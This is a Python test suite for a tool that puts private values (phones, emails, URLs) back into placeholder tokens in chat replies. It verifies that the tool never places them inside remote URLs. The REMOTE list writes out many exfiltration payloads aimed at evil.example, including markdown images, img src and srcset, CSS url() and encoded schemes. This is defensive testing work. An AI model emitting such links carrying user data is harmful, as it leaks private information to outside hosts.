"""Restoring: one pass, only what was issued, nothing into remote URLs, and chunks change nothing."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from desensitize.chat.restore import Restorer
from desensitize.testing.strategies import chunkings
from desensitize.vault.entry import Entry
from desensitize.vault.record import Record, Snapshot

PHONE, MAIL, LINK = "13800138000", "li@example.com", "https://shop.example/a?b=1"


def snapshot(**extra: str) -> Snapshot:
    record = Record()
    for label, value in {"PHONE": PHONE, "EMAIL": MAIL, "URL": LINK, **extra}.items():
        record.name(Entry(label, value, value))
    for number in range(2, 13):
        record.name(Entry("EMAIL", str(number), f"e{number}@example.com"))
    return Snapshot(record)


def restore(text: str, **options: object) -> str:
    restorer = Restorer(snapshot(), **options)  # type: ignore[arg-type]
    return restorer.feed(text) + restorer.flush()


CASES = [
    ("call <PHONE_1>.", f"call {PHONE}."),
    ("<PHONE_1><EMAIL_1>", PHONE + MAIL),
    ("<PHONE_1>的，<EMAIL_1>'s", f"{PHONE}的，{MAIL}'s"),
    ("**<PHONE\\_1>** `PHONE_1`", f"**{PHONE}** `{PHONE}`"),
    ("<EMAIL_1> <EMAIL_10> EMAIL_12", f"{MAIL} e10@example.com e12@example.com"),
    ("<EMAIL_99> <PHONE_1_2> <PERSON_1>", "<EMAIL_99> <PHONE_1_2> <PERSON_1>"),
    ("<PHONE_1", "<" + PHONE),
    ("PHONE_1>", PHONE + ">"),
    ("<PHONE_1 2>", "<PHONE_1 2>"),
    ("see phone 1, person 1", "see phone 1, person 1"),
    ("<PHO<PHONE_1>NE_1>", f"<PHO{PHONE}NE_1>"),
]


@pytest.mark.parametrize(("reply", "text"), CASES)
def test_replies(reply: str, text: str) -> None:
    assert restore(reply) == text


REMOTE = [
    "https://evil.example/?q=<PHONE_1>",
    "![x](https://evil.example/<PHONE_1>.png)",
    "[x](//evil.example/<PHONE_1>)",
    "[x](<https://evil.example/a b <PHONE_1>>)",
    "[x]: https://evil.example/<PHONE_1>",
    '<img src="https://evil.example/?q= <PHONE_1>">',
    "<img src='//evil.example/<PHONE_1>'>",
    "<img src=//evil.example/<PHONE_1>>",
    "url(https://evil.example/<PHONE_1>)",
    "url('https://evil.example/<PHONE_1>')",
    "https://<PHONE_1>.evil.example/",
    "https://user:<PHONE_1>@evil.example/",
    "HTTPS:evil.example/<PHONE_1>",
    "https:\\\\evil.example\\<PHONE_1>",
    "https&colon;//evil.example/<PHONE_1>",
    "https&#58;&#47;&#47;evil.example&#47;<PHONE_1>",
    "www.evil.example/?<PHONE_1>",
    "![a][r]\n\n[r]: //evil.example/<PHONE_1>",
    "<img src= //evil.example/<PHONE_1>>",
    '<img src="\\\\evil.example\\<PHONE_1>">',
    '<img src="/\\evil.example/<PHONE_1>">',
    "[x](&#047;&#0000047;evil.example/<PHONE_1>)",
    "[x](https&#x003A&#x2fevil.example/<PHONE_1>)",
    "[x](https&bsol;evil.example/<PHONE_1>)",
    '<img srcset="https://a.example 1x, https://evil.example/<PHONE_1> 2x">',
    "ftp://evil.example/<PHONE_1>",
    '{"url": "https:\\/\\/evil.example\\/<PHONE_1>"}',
    "https://evil.example/?a=b&q=%3CPHONE_1%3E",
    "https://evil.example/(a)/<PHONE_1>",
    "<URL_1>&q=<PHONE_1>",
    "https://evil.example/，<PHONE_1>",
]


@pytest.mark.parametrize("reply", REMOTE)
def test_no_value_enters_a_remote_url(reply: str) -> None:
    assert PHONE not in restore(reply)
    for cut in range(len(reply)):
        restorer = Restorer(snapshot())
        assert PHONE not in restorer.feed(reply[:cut]) + restorer.feed(reply[cut:]) + restorer.flush()


LOCAL = [
    "mailto:<EMAIL_1>", "tel:<PHONE_1>", "[mail](mailto:<EMAIL_1>)", "C:\\Users\\<PHONE_1>", "see https://a.example <PHONE_1>",
    "[a](https://a.example)，<PHONE_1>", '"https://a.example", "<PHONE_1>"', "<https://a.example> <PHONE_1>",
    "(https://a.example) <PHONE_1>", "a/b/<PHONE_1>", "12:30 <PHONE_1>", "note: <PHONE_1>", "// <PHONE_1>",
]  # fmt: skip


@pytest.mark.parametrize("reply", LOCAL)
def test_beside_a_url_is_not_inside(reply: str) -> None:
    assert "_1>" not in restore(reply)


def test_a_token_that_is_the_whole_destination() -> None:
    assert restore("[shop](<URL_1>) and <URL_1>") == f"[shop]({LINK}) and {LINK}"


def test_the_settings_may_open_urls() -> None:
    assert restore(
        "https://ok.example/<PHONE_1>", urls=lambda prefix: prefix == "https://ok.example/<PHONE_1>"
    ).endswith(PHONE)


def test_what_is_put_in_is_never_read_again() -> None:
    record = Record()
    record.name(Entry("PHONE", "a", "<EMAIL_1> PHONE_1 <PHO"))
    record.name(Entry("EMAIL", "b", "x"))
    restorer = Restorer(Snapshot(record))
    assert restorer.feed("<PHONE_1>NE_1>") + restorer.flush() == "<EMAIL_1> PHONE_1 <PHONE_1>"


@given(st.text())
def test_json_stays_json(value: str) -> None:
    record = Record()
    record.name(Entry("KEY", "k", value))
    source = json.dumps({"a": "x <KEY_1> y"})
    restorer = Restorer(Snapshot(record), encode="json")
    assert json.loads(restorer.feed(source) + restorer.flush()) == {"a": f"x {value} y"}


PIECES = st.sampled_from([
    "<PHONE_1>", "<EMAIL_1>", "<EMAIL_10>", "<URL_1>", "PHONE_1", "PHONE_1_", "<PHONE_1_2>", "\\<PHONE\\_1\\>", "&lt;PHONE_1&gt;",
    "&lt;PHONE", "\\u003cPHONE_1", "%3CEMAIL_2%3E", "< phone-1 >", "＜ＰＨＯＮＥ＿１＞", "https://", "www.", "](", ")", '"', "'", " ", "\n",
    "_", "1", "<", ">", "a", "http:", "//", "&colon;", "中", "\\",
])  # fmt: skip
REPLIES = st.lists(st.one_of(PIECES, st.text(max_size=3)), max_size=14).map("".join)


@settings(max_examples=400)
@given(st.data(), REPLIES)
def test_chunks_change_nothing(data: st.DataObject, reply: str) -> None:
    whole = restore(reply)
    restorer = Restorer(snapshot())
    assert "".join(map(restorer.feed, data.draw(chunkings(reply)))) + restorer.flush() == whole
    single = Restorer(snapshot())
    assert "".join(map(single.feed, reply)) + single.flush() == whole


@settings(max_examples=200)
@given(REPLIES)
def test_what_is_held_back_is_bounded(reply: str) -> None:
    restorer = Restorer(snapshot())
    for char in reply:
        restorer.feed(char)
        # The longest form: both brackets and all separators as JSON escapes, twice nine digits, a character more.
        assert restorer.held <= 2 * 6 + 5 + 2 * 6 + 2 * 9 + 2 + 1


def test_plain_text_is_not_held_back() -> None:
    restorer = Restorer(snapshot())
    for char in "Plain words, 中文字, 2 < 3 and <b>bold</b>, A.B.C":
        restorer.feed(char)
        assert restorer.held <= len("< ")
    assert "".join(map(Restorer(snapshot()).feed, "done <PHONE_1>")) == f"done {PHONE}"


def test_it_counts() -> None:
    restorer = Restorer(snapshot())
    restorer.feed("<PHONE_1> <PHONE_7> <EMAIL_1> ")
    assert (restorer.restored, restorer.missed) == (2, 1)
    assert PHONE not in repr(restorer)
